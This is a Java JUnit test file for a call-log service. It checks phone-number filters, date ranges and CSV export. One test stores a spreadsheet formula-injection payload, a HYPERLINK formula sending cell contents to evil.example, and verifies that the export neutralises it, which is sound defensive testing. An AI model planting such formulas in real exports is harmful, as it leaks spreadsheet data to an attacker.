package dev.switchboard.calls;

import static org.assertj.core.api.Assertions.assertThat;

import dev.switchboard.simulator.PhoneScript;
import dev.switchboard.simulator.SimClock;
import dev.switchboard.support.VirtualTimeCallTest;
import java.io.StringReader;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.context.annotation.Primary;

/** The call log's filters and export, as a review found them wrong. */
@Import(CallLogReviewTest.Noon.class)
class CallLogReviewTest extends VirtualTimeCallTest {

    @TestConfiguration
    static class Noon {
        @Bean
        @Primary
        SimClock reviewClock() {
            return new SimClock(Instant.parse("2026-11-25T18:00:00Z")); // Wednesday noon in Chicago
        }
    }

    /** A call from {@code from}, answered by a new member after 2 s and hung up 10 s later; returns its id. */
    private String answeredCallFrom(String from) {
        var sip = "sip:ann-" + UUID.randomUUID().toString().substring(0, 8) + "@review.sip.telnyx.com";
        var ann = member("Ann", "101", sip);
        var rule = owner.post("/api/v1/routing-rules", Map.of("name", "Ann", "type", "SIMULTANEOUS", "member_ids", List.of(ann),
                "ring_timeout_seconds", 20));
        assertThat(rule.status()).as(rule.body()).isEqualTo(201);
        sim.phone(sip, PhoneScript.answerAfter(Duration.ofSeconds(2)));
        var caller = sim.call(from, number);
        sim.advance(Duration.ofSeconds(12));
        caller.hangUp();
        assertThat(call().get("from_number")).isEqualTo(from);
        return call().get("id").toString();
    }

    @Test
    void aCallerWhoseNumberIsOutsideTheNumberingPlanIsFoundByTheNumberTheLogShows() {
        newCompany("Review Numbers Co");
        // E.164 in form, but in no area code libphonenumber knows (as a carrier may well deliver): the log shows it as it came.
        var id = answeredCallFrom("+15555550123");
        var byApi = owner.get("/api/v1/call-logs?number=%2B15555550123");
        assertThat(byApi.status()).as(byApi.body()).isEqualTo(200);
        assertThat(byApi.json()).hasSize(1);
        assertThat(byApi.json().get(0).get("id").asString()).isEqualTo(id);
        assertThat(owner.get("/api/v1/call-logs?number=%2B1%20555%20555%200123").json()).hasSize(1);
        var web = webLogin(owner.email(), "correct-horse");
        var page = web.get("/calls?number=%2B15555550123");
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).contains("/calls/" + id);
        assertThat(web.get("/calls/export.csv?number=%2B15555550123").body()).contains(id);
        // What is not a number at all is still refused, naming the field.
        assertThat(owner.get("/api/v1/call-logs?number=abc").status()).isEqualTo(422);
        assertThat(owner.get("/api/v1/call-logs?number=abc").errorField()).isEqualTo("number");
        assertThat(web.get("/calls?number=12").status()).isEqualTo(422);
    }

    @Test
    void theLastDayTheFormTakesFiltersTheLogInsteadOfBeingRefusedAsOutOfRange() {
        newCompany("Review Dates Co");
        var id = answeredCallFrom("+17735550123");
        var web = webLogin(owner.email(), "correct-horse");
        // "Until 9999-12-31", the last day the form takes: its end (the next midnight) is past what an instant may be.
        var page = web.get("/calls?from=2026-11-25&to=9999-12-31");
        assertThat(page.status()).as(page.body()).isEqualTo(200);
        assertThat(page.body()).contains("/calls/" + id);
        assertThat(web.get("/calls/export.csv?to=9999-12-31").body()).contains(id);
        assertThat(web.get("/calls?to=10000-01-01").status()).isEqualTo(422);
    }

    @Test
    void anExportedNoteOrTagIsNeverAFormulaWhenTheCsvIsOpenedInASpreadsheet() throws Exception {
        newCompany("Review Export Co");
        var id = answeredCallFrom("+17735550123");
        var note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        var annotated = owner.patch("/api/v1/call-logs/" + id, Map.of("notes", note, "tags", List.of("@SUM(1+1)", "-2+3", "vip")));
        assertThat(annotated.status()).as(annotated.body()).isEqualTo(200);
        var csv = webLogin(owner.email(), "correct-horse").get("/calls/export.csv").body();
        var row = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords().getFirst();
        assertThat(row.get("call_id")).isEqualTo(id);
        assertThat(row.get("notes")).as("text, not a formula").isEqualTo("'" + note);
        assertThat(row.get("tags")).doesNotStartWith("@").contains("@SUM(1+1)");
        // A phone number stays itself.
        assertThat(row.get("from")).isEqualTo("+17735550123");
        // The log itself keeps what was typed.
        assertThat(owner.get("/api/v1/call-logs/" + id).json().get("call").get("notes").asString()).isEqualTo(note);
    }
}
